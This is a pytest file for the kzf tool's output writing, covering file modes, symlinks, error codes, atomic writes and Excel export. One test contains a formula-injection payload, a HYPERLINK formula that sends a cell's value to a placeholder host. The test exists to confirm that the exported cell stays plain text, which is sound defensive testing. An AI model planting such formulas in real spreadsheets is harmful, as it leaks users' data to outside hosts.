"""Files kzf writes are for the people who open them, and a file with nothing in it is said.

- `--out` follows the umask (a colleague can read a published result), keeps the mode of a
  file it replaces, and writes through a symbolic link instead of replacing the link;
- an unwritable folder is a clear KZF108, not an internal error;
- a data file with a header and no rows is KZF107 naming the file, not an empty result
  with exit 0.
"""

from __future__ import annotations

import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from kzf.engine.cli.main import main

PROGRAM = "dims entity, year\ninput x\ny = 2 * x\n"
DATA = "entity,year,x\nA,2020,1.5\nB,2020,2\n"


@pytest.fixture
def files(tmp_path: Path) -> tuple[Path, Path]:
    (tmp_path / "f.kzf").write_text(PROGRAM, encoding="utf-8")
    (tmp_path / "d.csv").write_text(DATA, encoding="utf-8")
    return tmp_path / "f.kzf", tmp_path / "d.csv"


@pytest.fixture
def umask() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


def _mode(p: Path) -> int:
    return stat.S_IMODE(p.stat().st_mode)


def _eval(kzf: Path, data: Path, out: Path, capsys: pytest.CaptureFixture[str]) -> int:
    status = main(["eval", str(kzf), "--data", str(data), "--out", str(out)])
    capsys.readouterr()
    return status


@pytest.mark.parametrize("suffix", [".csv", ".json", ".parquet", ".xlsx"])
def test_out_follows_the_umask(
    files: tuple[Path, Path], umask: None, suffix: str, capsys: pytest.CaptureFixture[str]
) -> None:
    out = files[0].parent / f"r{suffix}"
    assert _eval(*files, out, capsys) == 0
    assert _mode(out) == 0o644  # 0666 with the umask 022 taken away
    os.umask(0o077)
    other = files[0].parent / f"private{suffix}"
    assert _eval(*files, other, capsys) == 0
    assert _mode(other) == 0o600


def test_a_replaced_file_keeps_its_mode(
    files: tuple[Path, Path], umask: None, capsys: pytest.CaptureFixture[str]
) -> None:
    out = files[0].parent / "r.csv"
    out.write_text("old\n", encoding="utf-8")
    out.chmod(0o640)
    assert _eval(*files, out, capsys) == 0
    assert _mode(out) == 0o640
    assert out.read_text(encoding="utf-8").splitlines() == [
        "entity,year,y",
        "A,2020,3.0",
        "B,2020,4.0",
    ]


def test_out_through_a_symlink_writes_the_target_and_keeps_the_link(
    files: tuple[Path, Path], umask: None, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = files[0].parent
    target = folder / "published" / "r.csv"
    target.parent.mkdir()
    target.write_text("old\n", encoding="utf-8")
    link = folder / "latest.csv"
    link.symlink_to(target)
    assert _eval(*files, link, capsys) == 0
    assert link.is_symlink() and link.resolve() == target.resolve()
    assert target.read_text(encoding="utf-8").startswith("entity,year,y\n")


def test_a_folder_kzf_cannot_write_in_is_kzf108(
    files: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    # a folder without write permission; root may write anywhere, but not into /proc
    locked = files[0].parent / "locked"
    locked.mkdir()
    locked.chmod(0o500)
    out = Path("/proc/r.csv") if os.geteuid() == 0 else locked / "r.csv"
    try:
        status = main(["eval", str(files[0]), "--data", str(files[1]), "--out", str(out)])
    finally:
        locked.chmod(0o700)
    err = capsys.readouterr().err
    assert status == 1 and "error[KZF108]: cannot write" in err and "r.csv" in err
    assert "internal error" not in err


def test_a_data_file_with_no_rows_is_an_error_naming_it(
    files: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    empty = files[0].parent / "empty.csv"
    empty.write_text("entity,year,x\n", encoding="utf-8")
    status = main(["eval", str(files[0]), "--data", str(empty)])
    captured = capsys.readouterr()
    assert status == 1
    assert "error[KZF107]" in captured.err and "empty.csv" in captured.err
    assert "no data rows" in captured.err
    assert captured.out == ""


def test_out_never_replaces_the_data_it_reads(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "f.kzf").write_text('data "d.csv"\ninput x\ny = 2 * x\n', encoding="utf-8")
    data = tmp_path / "d.csv"
    data.write_text(DATA, encoding="utf-8")
    (tmp_path / "alias.csv").symlink_to(data)
    kzf = str(tmp_path / "f.kzf")
    for args in (
        ["--out", str(data)],  # the file's own `data`
        ["--data", str(data), "--out", str(data)],
        ["--out", str(tmp_path / "alias.csv")],  # another name for it
    ):
        status = main(["eval", kzf, *args])
        err = capsys.readouterr().err
        assert status == 2 and "error[KZF108]" in err and "which this run reads" in err, args
        assert data.read_text(encoding="utf-8") == DATA  # the panel is still there


def test_xlsx_keeps_a_name_that_looks_like_a_formula_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    import openpyxl

    (tmp_path / "f.kzf").write_text(PROGRAM, encoding="utf-8")
    attack = '=HYPERLINK("http://example.invalid/"&A1,"click")'
    data = tmp_path / "d.csv"
    data.write_text(
        'entity,year,x\n"' + attack.replace('"', '""') + '",2020,1\n+1-2,2020,2\n', encoding="utf-8"
    )
    out = tmp_path / "r.xlsx"
    assert main(["eval", str(tmp_path / "f.kzf"), "--data", str(data), "--out", str(out)]) == 0
    capsys.readouterr()
    cells = {
        c.value: c.data_type for row in openpyxl.load_workbook(out).active.iter_rows() for c in row
    }
    assert cells[attack] == "s" and cells["+1-2"] == "s"  # text, not a formula ("f")


def test_xlsx_refuses_what_excel_cannot_hold_with_kzf108(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from kzf.engine.io import output

    (tmp_path / "f.kzf").write_text(PROGRAM, encoding="utf-8")
    data = tmp_path / "d.csv"
    data.write_text('entity,year,x\n"A\x01B",2020,1\n', encoding="utf-8")
    status = main(
        ["eval", str(tmp_path / "f.kzf"), "--data", str(data), "--out", str(tmp_path / "r.xlsx")]
    )
    err = capsys.readouterr().err
    assert status == 2 and "error[KZF108]" in err and "control character" in err
    assert "internal error" not in err
    (tmp_path / "d.csv").write_text(DATA, encoding="utf-8")  # two rows and a header
    monkeypatch.setattr(output, "XLSX_MAX_ROWS", 2)
    status = main(
        ["eval", str(tmp_path / "f.kzf"), "--data", str(data), "--out", str(tmp_path / "r.xlsx")]
    )
    err = capsys.readouterr().err
    assert status == 2 and "do not fit an Excel sheet" in err
    assert not (tmp_path / "r.xlsx").exists()


@pytest.mark.parametrize("signame", ["SIGTERM", "SIGHUP"])
def test_a_signal_while_writing_leaves_no_temporary_file_and_the_old_output(
    tmp_path: Path, signame: str
) -> None:
    """A kill (SIGTERM, or SIGHUP when the terminal closes) in the middle of writing: the
    temporary file is removed and the previous output stays whole."""
    import signal

    from kzf.engine.io import files

    out = tmp_path / "r.csv"
    out.write_text("the previous results\n", encoding="utf-8")
    before = signal.getsignal(getattr(signal, signame))

    def killed_half_way(tmp: str) -> None:
        Path(tmp).write_text("half a file", encoding="utf-8")
        os.kill(os.getpid(), getattr(signal, signame))

    with pytest.raises(files.Terminated) as stopped:
        files.write_atomically(out, killed_half_way)
    assert stopped.value.code == 128 + getattr(signal, signame)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.csv"]
    assert out.read_text(encoding="utf-8") == "the previous results\n"
    assert signal.getsignal(getattr(signal, signame)) is before  # the handler is put back


@pytest.mark.parametrize(
    ("command", "name"), [("report", "page.html"), ("plot", "chart.svg")], ids=["report", "plot"]
)
@pytest.mark.parametrize("victim", ["data", "program"])
def test_a_page_or_chart_never_replaces_what_it_is_made_from(
    files: tuple[Path, Path], capsys: pytest.CaptureFixture[str], command: str, name: str,
    victim: str,
) -> None:  # fmt: skip
    """`-o page.html` that is a link to the data (or to the .kzf file) is refused before
    anything runs; writing through it would replace the file with the page."""
    program, data = files
    target = data if victim == "data" else program
    before = target.read_bytes()
    link = program.with_name(name)
    link.symlink_to(target)
    extra = ["y", "--kind", "bars"] if command == "plot" else []
    status = main([command, str(program), *extra, "--data", str(data), "-o", str(link)])
    assert status == 2 and "error[KZF108]" in capsys.readouterr().err
    assert target.read_bytes() == before
